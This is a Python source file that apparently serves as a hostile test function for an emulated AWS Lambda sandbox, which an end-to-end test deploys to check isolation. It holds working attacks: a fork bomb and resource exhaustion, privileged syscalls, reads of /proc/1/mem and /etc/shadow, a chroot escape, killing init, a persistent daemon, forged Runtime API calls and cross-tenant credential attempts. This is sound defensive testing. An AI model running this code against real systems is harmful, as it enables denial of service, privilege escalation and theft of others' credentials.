"""A function that attacks what is around it: event["do"] names the attack, the answer says what came of it.

test/e2e/test_hostile.py deploys it and holds the answers against what must be.
"""
import ctypes
import datetime
import errno
import hashlib
import hmac
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)


def name_of(error):
    return errno.errorcode.get(error.errno, str(error.errno))


def attempt(call, *arguments):
    """What the call gives, or the name of its error."""
    try:
        result = call(*arguments)
        return "done" if result is None else result
    except OSError as e:
        return name_of(e)


def system(number, *arguments):
    ctypes.set_errno(0)
    if libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]) < 0:
        raise OSError(ctypes.get_errno(), "")


# ---- taking without end ----

def fork_bomb(event):
    """Children that fork in turn until nothing can."""
    libc.prctl(15, event["title"].encode(), 0, 0, 0)
    count = 0
    try:
        while count < 5000:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.5)
            count += 1
    except OSError as e:
        return [name_of(e), count]
    return ["nothing", count]


def threads(event):
    """How many fit; they are gone again when it answers. They count as processes do, and cost less."""
    threading.stack_size(65536)
    ended = threading.Event()
    started = []
    try:
        while len(started) < 5000:
            started.append(threading.Thread(target=ended.wait))
            started[-1].start()
        return ["nothing", len(started)]
    except RuntimeError as e:
        return [str(e), len(started) - 1]
    finally:
        ended.set()
        for thread in started[:-1]:
            thread.join()


def memory(event):
    held = []
    while True:
        held.append(bytearray(b"x" * (1 << 20)))


def disk(event):
    written = 0
    try:
        with open("/tmp/flood", "wb", buffering=0) as f:
            while written < event["mib"]:
                f.write(b"x" * (1 << 20))
                written += 1
    except OSError as e:
        return [name_of(e), written]
    finally:
        os.unlink("/tmp/flood")
    return ["nothing", written]


def log(event):
    line = b"x" * 1023 + b"\n"
    sent = 0
    until = time.monotonic() + event["seconds"]
    while time.monotonic() < until:
        sent += os.write(1, line * 64)
    return sent


def files(event):
    opened = []
    try:
        while len(opened) < 100000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
        return ["nothing", len(opened)]
    except OSError as e:
        return [name_of(e), len(opened)]
    finally:
        for fd in opened:
            os.close(fd)


def connections(event):
    """As many as can be had to both ports, of several processes, held open for a while."""
    for _ in range(8):
        if os.fork() == 0:
            held = []
            try:
                while True:
                    held.append(socket.create_connection(("127.0.0.1", event["port"]), 1))
                    held[-1].send(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            except OSError:
                time.sleep(event["seconds"])
            os._exit(0)
    time.sleep(event["seconds"] / 2)
    return "held"


# ---- reaching the kernel ----

CALLS = {
    "ptrace": (101, 16, 1, 0, 0), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0),
    "bind": (165, b"/proc", b"/tmp", 0, 4096, 0), "umount": (166, b"/proc", 2), "pivot_root": (155, b"/tmp", b"/tmp"),
    "chroot": (161, b"/tmp"), "fsopen": (430, b"proc", 0), "open_tree": (428, -100, b"/", 1), "unshare": (272, 0x10000000),
    "setns": (308, 0, 0), "clone": (56, 0x10000011, 0, 0, 0, 0), "add_key": (248, b"user", b"k", b"v", 1, -3),
    "keyctl": (250, 0, -3), "request_key": (249, b"user", b"k", 0, 0), "bpf": (321, 0, 0, 0),
    "io_uring": (425, 8, 0), "userfaultfd": (323, 0), "perf": (298, 0, 0, 0, 0, 0), "kexec": (246, 0, 0, 0, 0),
    "module": (175, 0, 0, b""), "handle": (304, 0, 0, 0), "reboot": (169, 0, 0, 0, 0), "syslog": (103, 3, 0, 0),
}


def calls(event):
    return {name: attempt(system, *arguments) for name, arguments in CALLS.items()}


def trace_child(event):
    pid = os.fork()
    if pid == 0:
        signal.pause()
    try:
        return attempt(system, 101, 16, pid, 0, 0)
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def sockets(event):
    kinds = {"raw": (socket.AF_INET, socket.SOCK_RAW, 1), "raw6": (socket.AF_INET6, socket.SOCK_RAW, 58),
             "packet": (17, socket.SOCK_RAW, 3), "vsock": (40, socket.SOCK_STREAM, 0),
             "audit": (16, socket.SOCK_RAW, 9), "netfilter": (16, socket.SOCK_RAW, 12), "alg": (38, 5, 0)}
    return {name: attempt(lambda k: socket.socket(*k).close(), kind) for name, kind in kinds.items()}


def network(event):
    def connect(address):
        with socket.create_connection(tuple(address), 2):
            return "connected"

    def bind(address):
        with socket.socket() as s:
            s.bind(address)

    return {"interfaces": [n for _, n in socket.if_nameindex()],
            "addresses": {f"{a[0]}:{a[1]}": attempt(connect, a) for a in event["addresses"]},
            "routes": open("/proc/net/route", encoding="ascii").read().count("\n") - 1,
            "unix": [line.split()[-1] for line in open("/proc/net/unix", encoding="utf-8")
                     if len(line.split()) > 7 and not line.startswith("Num")],
            "privileged port": attempt(bind, ("127.0.0.1", 80))}


# ---- looking around ----

def holds(path, marker):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return False
        with open(path, "rb") as f:
            while part := f.read(1 << 20):
                if marker in part:
                    return True
    except OSError:
        pass
    return False


def search(event):
    """Files outside the host's programs whose name or content has the marker."""
    marker = event["marker"].encode()
    found = []
    for folder, folders, names in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/lib", "/bin", "/sbin", "/lib64")]
        if folder.startswith("/proc/") and "task" in folder.split("/"):
            folders[:] = []
        for name in names:
            path = os.path.join(folder, name)
            if path.startswith((f"/proc/{os.getpid()}/", "/proc/self/")):
                continue
            if marker in name.encode(errors="replace") or holds(path, marker):
                found.append(path)
    return found


def read(event):
    """What can be read of each path: its first bytes, or the error."""
    def first(path):
        with open(path, "rb") as f:
            return f.read(64).decode("latin-1")

    return {path: attempt(first, path) for path in event["paths"]}


def leave_mark(event):
    """A secret in /tmp and in the environment; it stays as long as the instance."""
    with open("/tmp/" + event["marker"], "w", encoding="ascii") as f:
        f.write(event["marker"])
    time.sleep(event.get("seconds", 0))
    return [os.environ["AWS_ACCESS_KEY_ID"], os.environ.get("AWS_SESSION_TOKEN", "")]


def proc(event):
    """Ways through /proc."""
    result = {"processes": [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]}
    for path in ("/proc/1/root", "/proc/1/cwd", "/proc/1/exe", "/proc/1/ns/mnt"):
        result[path] = attempt(os.readlink, path)
    for path in ("/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/1/root/etc/shadow", "/proc/kcore", "/proc/keys",
                 "/proc/kallsyms", "/proc/self/root/../../etc/shadow", "/proc/sys/kernel/core_pattern"):
        result["read " + path] = attempt(lambda p: len(open(p, "rb").read(16)), path)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/1/mem",
                 "/proc/1/oom_score_adj", "/proc/sys/vm/drop_caches", "/proc/sys/net/ipv4/ip_forward",
                 "/proc/sys/kernel/ns_last_pid"):
        result["write " + path] = attempt(lambda p: os.close(os.open(p, os.O_WRONLY)), path)
    # A folder that somebody left open would be a way out.
    result["folders"] = [os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
                         if os.path.isdir(f"/proc/self/fd/{fd}") and os.readlink(f"/proc/self/fd/{fd}") != "/proc/self/fd"
                         and not os.readlink(f"/proc/self/fd/{fd}").startswith("/proc/")]
    os.chdir("/")
    for _ in range(40):
        os.chdir("..")
    result["top"] = sorted(os.listdir("."))
    result["inode"] = os.stat(".").st_ino == os.stat("/").st_ino
    return result


def kill_init(event):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV):
        os.kill(1, number)
    time.sleep(0.1)
    try:
        os.kill(os.getppid(), 0)
        return [os.getppid(), attempt(os.kill, event["pid"], signal.SIGKILL)]
    except ProcessLookupError:
        return "dead"


def setuid(event):
    """Whose rights a program has that carries the bit."""
    os.makedirs("/tmp/bin", exist_ok=True)
    with open("/usr/bin/id", "rb") as source, open("/tmp/bin/id", "wb") as to:
        to.write(source.read())
    attempt(os.chmod, "/tmp/bin/id", 0o6755)
    result = {}
    for path in ("/tmp/bin/id", "/var/task/id"):
        done = subprocess.run([path, "-u"], capture_output=True, text=True, check=False)
        result[path] = [bool(os.stat(path).st_mode & 0o6000), done.stdout.strip()]
    for path in ("/tmp", "/var/task", "/usr", "/"):
        result["nosuid " + path] = bool(os.statvfs(path).f_flag & os.ST_NOSUID)
    # The host's own: their rights after exec, as the kernel tells them.
    for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/chsh"):
        if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
            child = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                with open(f"/proc/{child.pid}/status", encoding="ascii") as f:
                    ids = next(line for line in f if line.startswith("Uid:")).split()[1:]
                result["ids of " + path] = sorted(set(ids))
            except (OSError, StopIteration):
                pass
            child.kill()
            child.wait()
    result["setuid"] = attempt(os.setuid, 0)
    result["no_new_privs"] = open("/proc/self/status", encoding="ascii").read().split("NoNewPrivs:\t")[1][0]
    return result


# ---- staying ----

def daemon(event):
    """A grandchild in a session of its own that counts; the invocation is over at once."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                attempt(lambda n: signal.signal(n, signal.SIG_IGN), number) if number not in (9, 19, 32, 33) else None
            os.close(1), os.close(2)
            libc.prctl(15, event["title"].encode(), 0, 0, 0)
            count = 0
            while True:
                count += 1
                with open("/tmp/ticks.new", "w", encoding="ascii") as f:
                    f.write(str(count))
                os.rename("/tmp/ticks.new", "/tmp/ticks")
                time.sleep(0.01)
        os._exit(0)
    os.wait()
    return "left"


def ticks(event):
    """How far it has counted; what was stopped before its first step gets the time for that."""
    while not os.path.exists("/tmp/ticks"):
        time.sleep(0.01)
    time.sleep(event.get("seconds", 0))
    with open("/tmp/ticks", encoding="ascii") as f:
        return int(f.read())


# ---- others' Runtime API, others' keys ----

def http(port, method, path, headers, body=b""):
    """(status, body) of a request that only this text makes."""
    with socket.create_connection(("127.0.0.1", port), 10) as s:
        head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
        s.sendall(f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n"
                  f"Content-Length: {len(body)}\r\n{head}\r\n".encode() + body)
        answer = b""
        while part := s.recv(65536):
            answer += part
    head, _, body = answer.partition(b"\r\n\r\n")
    return [int(head.split()[1]), body.decode("utf-8", "replace")]


def answer_other(event):
    """Answers and fails the run of another instance, whose id somebody betrayed."""
    base = "/2018-06-01/runtime/"
    return {
        "response": http(9001, "POST", f"{base}invocation/{event['id']}/response", {}, b'"forged"')[0],
        "error": http(9001, "POST", f"{base}invocation/{event['id']}/error", {}, b'{"errorType":"Forged"}')[0],
        "init error": http(9001, "POST", f"{base}init/error", {}, b"{}")[0],
        "extension": http(9001, "GET", "/2020-01-01/extension/event/next",
                          {"Lambda-Extension-Identifier": event["id"]})[0],
    }


def busy(event):
    """Tells its own id by its name in the log, then works on."""
    print("id:", event["request_id"], flush=True)
    time.sleep(event["seconds"])
    return "honest"


def sign(key, date, region, service, text):
    key = ("AWS4" + key).encode()
    for part in (date, region, service, "aws4_request"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    return hmac.new(key, text.encode(), hashlib.sha256).hexdigest()


def signed(key, secret, token, service="dynamodb", target="DynamoDB_20120810.ListTables", body=b"{}",
           content_type="application/x-amz-json-1.0"):
    """One signed request at the endpoint's socket."""
    now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    headers = {"content-type": content_type, "host": "127.0.0.1:4566", "x-amz-date": now}
    if target:
        headers["x-amz-target"] = target
    if token:
        headers["x-amz-security-token"] = token
    names = ";".join(sorted(headers))
    canonical = "\n".join(["POST", "/", "", *(f"{k}:{headers[k]}" for k in sorted(headers)), "", names,
                           hashlib.sha256(body).hexdigest()])
    scope = f"{now[:8]}/us-east-1/{service}/aws4_request"
    text = "\n".join(["AWS4-HMAC-SHA256", now, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    headers["authorization"] = (f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders={names}, "
                                f"Signature={sign(secret, now[:8], 'us-east-1', service, text)}")
    del headers["host"]
    return http(4566, "POST", "/", headers, body)


def unsigned():
    return http(4566, "POST", "/", {"X-Amz-Target": "DynamoDB_20120810.ListTables",
                                    "Content-Type": "application/x-amz-json-1.0"}, b"{}")


def identity(keys):
    return signed(*keys, service="sts", target=None, body=b"Action=GetCallerIdentity&Version=2011-06-15",
                  content_type="application/x-www-form-urlencoded")


def keys(event):
    """Every key that it may try: each answer of the endpoint, and who it is then."""
    own = [os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], os.environ.get("AWS_SESSION_TOKEN")]
    tries = {
        "own": own, "test": ["test", "test", None], "account": ["123456789012", "test", None],
        "own account": ["000000000000", "test", None], "unknown": ["AKIAIOSFODNN7EXAMPLE", "secret", None],
        "empty token": [own[0], own[1], None], "wrong secret": [own[0], "x" * 40, own[2]],
    }
    if "other" in event:
        tries["other's key"] = [event["other"][0], own[1], event["other"][1]]
        tries["other's token"] = [own[0], own[1], event["other"][1]]
    result = {name: signed(*k) for name, k in tries.items()}
    result["none"] = unsigned()
    result["pages"] = http(4566, "GET", "/_cirrus/metrics", {})
    result["who is test"] = identity(["test", "test", None])[1]
    result["who is account"] = identity(["123456789012", "test", None])[1]
    return result


def well(event):
    return "well"


def handler(event, context):
    if isinstance(event, dict) and "do" in event:
        event["request_id"] = context.aws_request_id
        return globals()[event["do"]](event)
    return "well"


if __name__ == "__main__":
    json.dump(handler(json.loads(sys.argv[1]), None), sys.stdout)
